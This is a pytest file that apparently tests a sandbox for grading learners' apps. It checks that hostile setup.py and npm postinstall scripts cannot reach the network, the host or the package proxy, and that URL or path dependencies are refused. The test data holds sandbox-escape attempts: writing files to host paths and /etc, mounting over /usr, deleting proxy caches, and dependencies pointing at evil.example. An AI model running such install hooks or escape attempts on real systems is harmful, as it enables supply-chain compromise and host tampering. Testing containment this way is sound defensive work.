"""Hostile builds with the package index proxy in place: the box's only way out is the proxy, which serves package
downloads and nothing else; what the learner wrote (a setup.py) runs in the box only; a dependency by path or URL is
refused before anything is installed."""

import os
import textwrap

import pytest

from .conftest import check_web, write_app

pytestmark = pytest.mark.sandbox

GRADE_LIMIT = 60

# Serves 200 only when the learner's setup.py ran (in the box) and asgiref came from the index.
PROOF_APP = """
import os
from http.server import BaseHTTPRequestHandler, HTTPServer
from importlib.metadata import version

ok = os.path.exists("/workspace/setup-ran") and version("asgiref") == "3.5.0"

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200 if ok else 500)
        self.send_header("Content-Length", "0")
        self.end_headers()

HTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
"""


def setup_py(attack: str) -> str:
    """A setup.py that runs `attack` (which may set escaped[name] = detail), refuses to build if anything escaped,
    and leaves a mark in the box's workspace for PROOF_APP."""
    return (
        "import os, socket, sys, urllib.request\nescaped = {}\n"
        + textwrap.dedent(attack)
        + textwrap.dedent(
            """
            if escaped:
                sys.exit(f"ESCAPED: {escaped}")
            open("/workspace/setup-ran", "w").write("ran in the box")
            from setuptools import setup
            setup(name="hostile", version="0.1", py_modules=[], install_requires=["asgiref==3.5.0"])
            """
        )
    )


def grade_setup_py(judge, tmp_path, attack: str) -> dict:
    root = write_app(tmp_path / "hostile", PROOF_APP, extra={"setup.py": setup_py(attack)})
    (root / "requirements.txt").unlink()  # setup.py is the manifest: uv runs it, in the box
    kind, card, seconds = judge(root)
    assert kind == "scorecard", card
    assert seconds < GRADE_LIMIT, f"took {seconds:.1f} s"
    assert card["error"] is None, card["error"]
    checks = check_web(card)
    install = checks["dependencies.isolated-install"]
    assert install["status"] == "pass", install["evidence"]
    assert "package index" in install["evidence"]
    answers = checks["port-binding.answers-http"]
    assert answers["status"] == "pass", answers["evidence"]  # setup.py ran, and asgiref==3.5.0 was installed
    return checks


def test_setup_py_reaches_for_anything_but_the_proxy(judge, tmp_path, guard, through_index):
    attack = f"""
    def attempt(name, action):
        try:
            result = action()
        except Exception as error:
            return type(error).__name__
        escaped[name] = repr(result)[:80]

    def tcp(host, port):
        socket.create_connection((host, port), timeout=2).close()

    def http(path, method="GET"):
        request = urllib.request.Request("http://127.0.0.1:3141" + path, method=method)
        return urllib.request.urlopen(request, timeout=10).status

    def around_the_forwarder():
        if not os.path.exists("/index/index.sock"):
            escaped["premise"] = "the door is not there during the build"
        s = socket.socket(socket.AF_UNIX)
        s.connect("/index/index.sock")
        s.sendall(b"DELETE /cache/list HTTP/1.0\\r\\n\\r\\n")
        answer = s.recv(64)
        if b" 200 " not in answer:
            raise PermissionError(answer)

    attempt("internet", lambda: tcp("1.1.1.1", 80))
    attempt("internet-v6", lambda: tcp("2606:4700:4700::1111", 80))
    attempt("host loopback", lambda: tcp("127.0.0.1", {guard.listener_port}))
    attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
    attempt("upstream by name", lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=3))
    attempt("project list", lambda: http("/index/"))
    attempt("cache invalidation", lambda: http("/cache/list", "DELETE"))
    attempt("delete a project", lambda: http("/index/asgiref/", "DELETE"))
    attempt("proxpi home", lambda: http("/"))
    attempt("around the forwarder", around_the_forwarder)
    """
    grade_setup_py(judge, tmp_path, attack)
    # guard: the host loopback listener got no connection


def test_malicious_setup_py_runs_only_in_the_box(judge, tmp_path, guard, through_index):
    source = tmp_path / "hostile"
    attack = f"""
    for target in ({str(guard.sentinel_file)!r}, {str(source / "pwned")!r}, {str(tmp_path / "pwned")!r},
                   "/tmp/pwned-by-setup-py", "/work/main/pwned", "/etc/pwned", "/proc/1/root/etc/pwned"):
        try:
            with open(target, "w") as f:
                f.write("pwned")
        except OSError:
            pass
    os.system("unshare -r true 2>/dev/null; mount -t tmpfs x /usr 2>/dev/null")
    """
    grade_setup_py(judge, tmp_path, attack)
    # guard: the sentinel is unchanged and no pwned* file appeared in the host's /tmp
    assert not (source / "pwned").exists() and not (tmp_path / "pwned").exists()
    assert not os.path.exists("/work/main/pwned") and not os.path.exists("/etc/pwned")


# The web process looks for the way out the build had: serves 200 only when the door and the forwarder are gone.
NO_WAY_OUT_APP = """
import os, socket
from http.server import BaseHTTPRequestHandler, HTTPServer

def reachable(family, address):
    try:
        socket.socket(family, socket.SOCK_STREAM).connect(address)
        return True
    except OSError:
        return False

out = reachable(socket.AF_UNIX, "/index/index.sock") or reachable(socket.AF_INET, ("127.0.0.1", 3141))

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(500 if out else 200)
        self.send_header("Content-Length", "0")
        self.end_headers()

HTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
"""


def test_the_run_has_no_way_out_once_the_build_is_done(judge, tmp_path, through_index):
    root = write_app(tmp_path / "hostile", NO_WAY_OUT_APP, extra={"requirements.txt": "asgiref==3.5.0\n"})
    kind, card, _ = judge(root)
    assert kind == "scorecard", card
    checks = check_web(card)
    assert checks["dependencies.isolated-install"]["status"] == "pass", checks["dependencies.isolated-install"]
    assert checks["port-binding.answers-http"]["status"] == "pass", checks["port-binding.answers-http"]["evidence"]


@pytest.mark.parametrize(
    "files",
    [
        {"requirements.txt": "asgiref==3.5.0\n./vendor/evil\n", "vendor/evil/setup.py": "open('/workspace/pwn','w')\n"},
        {"requirements.txt": "evil @ https://evil.example/evil-1.0.tar.gz\n"},
        {"requirements.txt": "-r https://evil.example/requirements.txt\n"},
        {"pyproject.toml": '[project]\nname = "x"\nversion = "1"\ndependencies = ["evil @ file:///etc"]\n'},
        {"Pipfile": '[packages]\nevil = {git = "https://evil.example/evil.git"}\n'},
    ],
    ids=["local-path", "url", "url-include", "pyproject-file-url", "pipfile-git"],
)
def test_a_path_or_url_dependency_is_refused_as_the_learners_fail(judge, tmp_path, through_index, files):
    root = write_app(tmp_path / "hostile", PROOF_APP, extra=files)
    if "requirements.txt" not in files:
        (root / "requirements.txt").unlink()
    before = len(through_index.upstream_requests())
    kind, card, seconds = judge(root)
    assert kind == "scorecard", card
    install = check_web(card)["dependencies.isolated-install"]
    assert install["status"] == "fail", install
    assert "named packages from its package index only" in install["evidence"]
    assert through_index.upstream_requests()[before:] == []  # refused before anything was asked of the index


# The learner's own install script: it reaches for the network and the host, then leaves a mark for the server.
POSTINSTALL = """const fs = require("fs"), net = require("net");
const escaped = [];
const attempts = [["1.1.1.1", 80], ["127.0.0.1", Number(process.argv[2])], ["registry.npmjs.org", 443]];
let pending = attempts.length;
for (const [host, port] of attempts) {
  const socket = net.connect({host, port, timeout: 2000}, () => { escaped.push(host); socket.destroy(); done(); });
  socket.on("error", done);
  socket.on("timeout", () => { socket.destroy(); done(); });
}
for (const target of process.argv.slice(3)) {
  try { fs.writeFileSync(target, "pwned"); } catch (e) {}
}
function done() {
  if (--pending) return;
  if (escaped.length) { console.error("ESCAPED", escaped); process.exit(1); }
  fs.writeFileSync("/workspace/postinstall-ran", "in the box");
}
"""
MARKED_SERVER = """const http = require("http"), fs = require("fs");
require("debug");
const ok = fs.existsSync("/workspace/postinstall-ran");
http.createServer((req, res) => { res.statusCode = ok ? 200 : 500; res.end(); })
  .listen(Number(process.env.PORT), "0.0.0.0");
"""


@pytest.fixture
def node_judge(guard, small_labs_dir, tmp_path):
    """judge() for Node apps: node's V8 reserves about 700 MB of address space before it runs a line."""
    import json
    import shutil

    import yaml

    from labs.grading import grade

    labs = tmp_path / "node-labs"
    shutil.copytree(small_labs_dir, labs)
    lab_yaml = labs / "audit" / "lab.yaml"
    raw = yaml.safe_load(lab_yaml.read_text())
    raw["limits"]["memory_mb"] = 1024
    lab_yaml.write_text(yaml.safe_dump(raw))

    def run(path):
        card = grade(path, "audit", labs_dir=labs).to_dict()
        guard.outputs.append(json.dumps(card))
        return card

    return run


def test_npm_install_scripts_run_only_in_the_box(node_judge, tmp_path, guard, through_npm):
    import json

    from tests.grading.test_npm_index import LOCK, PACKAGE

    source = tmp_path / "hostile"
    targets = [str(guard.sentinel_file), str(source / "pwned"), "/tmp/pwned-by-postinstall", "/work/main/pwned"]
    package = {**PACKAGE, "scripts": {"postinstall": f"node evil.js {guard.listener_port} {' '.join(targets)}"}}
    source.mkdir()
    for name, text in {
        "server.js": MARKED_SERVER,
        "evil.js": POSTINSTALL,
        "package.json": json.dumps(package),
        "package-lock.json": json.dumps(LOCK),
        "Procfile": "web: node server.js\n",
    }.items():
        (source / name).write_text(text)
    checks = check_web(node_judge(source))
    install = checks["dependencies.isolated-install"]
    assert install["status"] == "pass", install["evidence"]
    assert checks["port-binding.answers-http"]["status"] == "pass", checks["port-binding.answers-http"]["evidence"]
    assert not (source / "pwned").exists() and not os.path.exists("/work/main/pwned")
    # guard: the sentinel is unchanged, no pwned* file in the host's /tmp, no connection to the host listener
